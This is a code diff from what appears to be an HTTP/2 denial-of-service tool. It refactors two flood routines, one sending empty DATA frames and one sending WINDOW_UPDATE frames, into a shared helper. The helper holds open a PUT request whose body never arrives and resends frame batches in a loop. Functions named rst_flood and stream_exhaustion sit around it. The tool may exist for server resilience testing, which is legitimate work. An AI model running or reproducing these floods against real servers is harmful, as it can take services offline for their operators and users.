@@ -965,20 +965,9 @@ def rst_flood(att):
         att.send(c, batch, BATCH)
 
 
-def empty_data_flood(att):
-    call = request_block(PUT_PATH, att.authority)
-    while att.running():
-        c = att.connection()
-        if c is None or not att.ready(c):
-            continue
-        stream = c.state.get("stream")
-        if stream is None or stream in c.closed:
-            stream = c.state["stream"] = c.new_stream(track=True)
-            att.send(c, frame(HEADERS, END_HEADERS, stream, call))  # a Put whose body never comes
-        att.send(c, frame(DATA, 0, stream) * BATCH, BATCH)
-
-
-def window_update_flood(att):
+def flood_on_open_stream(att, batch_for):
+    """Keeps one Put open whose body never comes (a new one if the server ends it) and sends
+    batch_for(stream) on the connection again and again."""
     call = request_block(PUT_PATH, att.authority)
     while att.running():
         c = att.connection()
@@ -988,8 +977,16 @@ def window_update_flood(att):
         if stream is None or stream in c.closed:
             stream = c.state["stream"] = c.new_stream(track=True)
             att.send(c, frame(HEADERS, END_HEADERS, stream, call))
-            c.state["batch"] = (window_update(0, 1) + window_update(stream, 1)) * (BATCH // 2)
+            c.state["batch"] = batch_for(stream)
         att.send(c, c.state["batch"], BATCH)
+
+
+def empty_data_flood(att):
+    flood_on_open_stream(att, lambda stream: frame(DATA, 0, stream) * BATCH)
+
+
+def window_update_flood(att):
+    flood_on_open_stream(att, lambda stream: (window_update(0, 1) + window_update(stream, 1)) * (BATCH // 2))
 
 
 def stream_exhaustion(att):
